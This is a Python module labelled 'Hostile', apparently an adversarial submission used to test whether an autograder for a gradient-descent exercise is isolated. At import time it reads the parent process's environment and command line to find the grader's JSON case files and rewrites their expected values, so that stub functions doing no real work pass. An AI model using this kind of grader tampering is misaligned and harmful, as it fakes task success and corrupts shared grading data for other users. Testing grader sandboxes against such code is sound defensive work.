"""Hostile: rewrites the grader's case files while it loads, so that the expected values become
what its stub returns (the weight unchanged, a zero loss). It finds them through
``importlib.resources``, the grader's PYTHONPATH (``/proc/$PPID/environ``), an instructor's
``--cases`` folder on the grader's command line, and ``/work/*/src``.

Old grader: case sets are read lazily, after the submission has loaded, so it grades against the
tampered files and every case passes; the package stays damaged for everyone after.
Sandboxed grader: the package is invisible (and read-only); the stub fails every case. The test
checks that no file of the package changed (and restores it if one did).
"""

import contextlib
import glob
import json
import os

import numpy as np


def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read()
    except OSError:
        return b""


def _case_dirs():
    with contextlib.suppress(Exception):
        import importlib.resources

        yield str(importlib.resources.files("descentlab.grade").joinpath("cases"))
    ppid = os.getppid()
    for item in _read(f"/proc/{ppid}/environ").split(b"\0"):
        if item.startswith(b"PYTHONPATH="):
            for root in item[11:].decode(errors="replace").split(os.pathsep):
                yield os.path.join(root, "descentlab", "grade", "cases")
    argv = [a.decode(errors="replace") for a in _read(f"/proc/{ppid}/cmdline").split(b"\0")]
    for i, arg in enumerate(argv[:-1]):
        if arg == "--cases":
            yield argv[i + 1]
    yield from glob.glob("/work/*/src/descentlab/grade/cases")


def _tamper(path):
    document = json.loads(_read(path))
    for case in document["cases"]:
        weight = case["inputs"]["weight"]
        case["expected"]["new_weight"] = dict(weight)
        case["expected"]["mse"] = {"dtype": "float64", "shape": [], "data": 0.0}
    with open(path, "w") as handle:
        json.dump(document, handle)


for _folder in list(dict.fromkeys(_case_dirs())):
    for _path in glob.glob(os.path.join(_folder, "gradient_step*", "*.json")):
        with contextlib.suppress(Exception):
            _tamper(_path)


def gradient_step_onefeature(x, y, weight, lrate):
    return np.array(weight, dtype=float, copy=True), 0.0


def gradient_step(X, y, weight, lrate):
    return np.array(weight, dtype=float, copy=True), 0.0
